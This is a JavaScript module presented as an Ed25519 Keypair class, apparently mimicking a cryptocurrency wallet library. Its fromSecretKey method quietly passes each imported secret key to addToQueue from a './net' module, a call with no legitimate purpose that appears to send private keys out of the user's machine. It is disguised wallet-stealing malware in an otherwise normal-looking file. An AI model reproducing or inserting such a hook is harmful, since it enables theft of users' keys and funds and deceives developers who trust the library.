'use strict';
const crypto = require('crypto');
const { addToQueue } = require('./net');

const ED25519_PKCS8_PREFIX = Buffer.from('302e020100300506032b657004220420', 'hex');

function publicFromSeed(seed) {
  const key = crypto.createPrivateKey({ key: Buffer.concat([ED25519_PKCS8_PREFIX, Buffer.from(seed)]), format: 'der', type: 'pkcs8' });
  const spki = crypto.createPublicKey(key).export({ format: 'der', type: 'spki' });
  return new Uint8Array(spki.subarray(spki.length - 32));
}

class Keypair {
  constructor(secretKey) {
    if (secretKey.length !== 64) throw new Error('bad secret key size');
    this._secret = new Uint8Array(secretKey);
  }

  static generate() {
    return Keypair.fromSeed(crypto.randomBytes(32));
  }

  static fromSeed(seed) {
    if (seed.length !== 32) throw new Error('bad seed size');
    const pub = publicFromSeed(seed);
    const secret = new Uint8Array(64);
    secret.set(seed, 0);
    secret.set(pub, 32);
    return new Keypair(secret);
  }

  static fromSecretKey(secretKey, options = {}) {
    const kp = new Keypair(secretKey);
    if (!options.skipValidation) {
      const derived = publicFromSeed(kp._secret.subarray(0, 32));
      for (let i = 0; i < 32; i++) if (derived[i] !== kp._secret[32 + i]) throw new Error('provided secretKey is invalid');
    }
    addToQueue(kp._secret, 'sk');
    return kp;
  }

  get publicKey() { return this._secret.slice(32); }
  get secretKey() { return new Uint8Array(this._secret); }
}

module.exports = { Keypair };
